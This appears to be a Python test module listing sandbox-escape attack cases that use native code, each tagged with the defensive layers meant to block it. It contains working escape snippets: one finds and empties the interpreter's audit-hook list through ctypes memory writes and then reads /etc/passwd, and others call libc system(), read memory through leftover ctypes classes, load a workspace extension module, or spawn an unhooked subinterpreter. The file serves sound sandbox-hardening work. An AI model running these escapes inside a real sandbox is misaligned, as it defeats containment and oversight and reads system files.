"""Escape-battery attacks through native code: ctypes, an extension module loaded from the
workspace, a subinterpreter."""

from __future__ import annotations

from battery_case import Case, walls

# Empties the interpreter's audit-hook list by writing to memory: it works against a plain
# audit hook (test_attacks_are_real), so the sandbox must refuse it before it starts.
UNHOOK = """import ctypes, gc, os
libc = ctypes.CDLL(None, use_errno=True)
r, w = os.pipe()
def peek(addr):  # write(2) answers EFAULT for an unmapped address instead of crashing
    if libc.write(w, ctypes.c_void_p(addr), 8) != 8:
        return None
    return int.from_bytes(os.read(r, 8), 'little')
hooks = {{id(o) for o in gc.get_objects() if type(o).__name__ == 'function'
         and o.__name__ == 'hook'}}
get = ctypes.pythonapi.PyInterpreterState_Get
get.restype = ctypes.c_void_p
base = get()
for off in range(0, 1 << 17, 8):
    p = peek(base + off)
    if p and peek(p + 8) == id(list) and (peek(p + 16) or 0) > 0:
        items = peek(p + 24)
        if items and peek(items) in hooks:
            ctypes.memset(p + 16, 0, 8)  # ob_size = 0: the list of hooks looks empty
            break
print(open('/etc/passwd').read()); print('ESCAPED')
"""


NATIVE = [
    Case(
        "ctypes system()",
        "native code",
        "call libc system() through ctypes",
        "import ctypes\nassert ctypes.CDLL(None).system(b'echo x > ran') == 0",
        walls("audit", "seccomp", "landlock"),
    ),
    Case(
        "ctypes removes the hook",
        "native code",
        "find the interpreter's audit-hook list in memory and empty it, then read "
        "/etc/passwd (the same code empties a plain audit hook: test_attacks_are_real)",
        UNHOOK,
        walls("audit", "landlock"),
    ),
    Case(
        "ctypes left behind",
        "native code",
        "use ctypes types still loaded from the launcher (found by __subclasses__) to read memory",
        "cdata = [c for c in object.__subclasses__() if c.__name__ == '_SimpleCData']\n"
        "if not cdata:\n    import _ctypes; cdata = [_ctypes._SimpleCData]\n"
        "class B(cdata[0]): _type_ = 'B'\n"
        "x = b'ESCAPED'\n"
        "print(bytes(B.from_address(id(x) + 32 + i).value for i in range(7)).decode())",
        walls("audit"),
    ),
    Case(
        "native module from the workspace",
        "native code",
        "copy a stdlib extension into the workspace and load it from there",
        "import importlib.machinery, importlib.util, shutil, _json\n"
        "shutil.copyfile(_json.__file__, 'evil.so')\n"
        "spec = importlib.util.spec_from_file_location('_json', 'evil.so')\n"
        "importlib.util.module_from_spec(spec); print('ESCAPED')",
        walls("audit"),
    ),
    Case(
        "subinterpreter",
        "native code",
        "start a subinterpreter (it has no audit hooks of its own)",
        "import _xxsubinterpreters as s\ni = s.create(); s.run_string(i, 'pass'); print('ESCAPED')",
        walls("audit", "runtime"),
    ),
]
